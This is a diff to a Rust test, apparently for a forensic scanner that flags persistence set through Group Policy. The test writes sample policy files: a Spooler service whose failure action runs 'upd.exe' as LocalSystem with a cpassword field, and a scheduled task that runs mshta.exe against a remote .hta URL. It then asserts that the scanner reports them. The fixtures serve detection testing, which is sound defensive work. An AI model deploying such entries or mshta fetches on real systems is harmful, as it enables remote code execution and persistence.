@@ -517,12 +517,34 @@ fn gpo_tasks_in_sysvol_and_the_members_cache() {
         machine.join("ScheduledTasks.xml"),
     )
     .unwrap();
+    // A SYSVOL policy that sets a service's failure to run a program (authored to MS-GPPREF),
+    // beside the SYSTEM hive of the windows-tasks image (GPO services are read beside the
+    // live ones).
+    let services = machine.with_file_name("Services");
+    std::fs::create_dir_all(&services).unwrap();
+    std::fs::write(
+        services.join("Services.xml"),
+        r#"<NTServices clsid="{2CFB484A-4E96-4b5d-A0B6-093D2F91E6AE}"><NTService clsid="{AB6F0B67-341F-4e51-92F9-005FBFBA1A43}" name="Spooler" changed="2024-05-06 07:08:12" uid="{9}"><Properties startupType="AUTOMATIC" serviceName="Spooler" serviceAction="RESTART" accountName="LocalSystem" firstFailure="RUNCMD" secondFailure="RUNCMD" thirdFailure="RUNCMD" resetFailCountDelay="0" restartServiceDelay="1" program="C:\ProgramData\upd.exe" args="/s" cpassword="j1Uyj3Vx8TY9LtLZil2uAuZkFQA/4latT76ZwgdHdhw"/></NTService></NTServices>"#,
+    )
+    .unwrap();
+    let config = root.join("Windows/System32/config");
+    std::fs::create_dir_all(&config).unwrap();
+    let corpus = Evidence::open(corpus_image("windows-tasks")).unwrap();
+    std::fs::write(
+        config.join("SYSTEM"),
+        corpus
+            .read("/Windows/System32/config/SYSTEM", None, 1 << 30)
+            .unwrap(),
+    )
+    .unwrap();
     std::fs::write(
         cache.join("ScheduledTasks.xml"),
         r#"<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118ACCC}"><ImmediateTask clsid="{9F030EBD-1E5E-4d0e-A33A-1A5B7F1F6BE3}" name="UserOneShot" changed="2024-05-06 07:08:10" uid="{8}"><Properties action="C" name="UserOneShot" appName="mshta.exe" args="http://203.0.113.9/a.hta"/></ImmediateTask></ScheduledTasks>"#,
     )
     .unwrap();
-    let r = Evidence::open(&root).unwrap().scan(ScanSet::none().tasks());
+    let r = Evidence::open(&root)
+        .unwrap()
+        .scan(ScanSet::none().tasks().services());
     let gpo: Vec<_> = r
         .scheduled_tasks
         .iter()
@@ -568,5 +590,47 @@ fn gpo_tasks_in_sysvol_and_the_members_cache() {
         owned.techniques.iter().any(|t| t == "T1484.001"),
         "{:?}",
         owned.techniques
+    );
+    // The service item: what it sets, the password's presence, its reasons.
+    let spooler = r
+        .services
+        .iter()
+        .find(|s| s.gpo.is_some())
+        .expect("the GPO service");
+    let g = spooler.gpo.as_ref().unwrap();
+    assert_eq!(
+        (
+            g.kind.as_str(),
+            g.action.as_str(),
+            g.policy.as_deref(),
+            g.side.as_deref()
+        ),
+        ("service", "restart", Some(guid), Some("machine"))
+    );
+    assert!(g.cpassword_present);
+    assert_eq!(
+        (
+            spooler.service.name.as_str(),
+            spooler.service.start_name.as_deref()
+        ),
+        ("Spooler", Some("automatic"))
+    );
+    assert_eq!(
+        spooler.service.failure_command.as_deref(),
+        Some(r"C:\ProgramData\upd.exe /s")
+    );
+    assert!(spooler
+        .source
+        .path
+        .ends_with("/Machine/Preferences/Services/Services.xml"));
+    let f = findings
+        .iter()
+        .find(|(f, _)| f.subject.artifact == "service" && f.subject.name == "Spooler")
+        .map(|(f, _)| f)
+        .unwrap();
+    let ids: Vec<&str> = f.reasons.iter().map(|x| x.id.as_str()).collect();
+    assert!(
+        ids.contains(&"gpo_deployed") && ids.contains(&"gpo_cpassword"),
+        "{ids:?}"
     );
 }
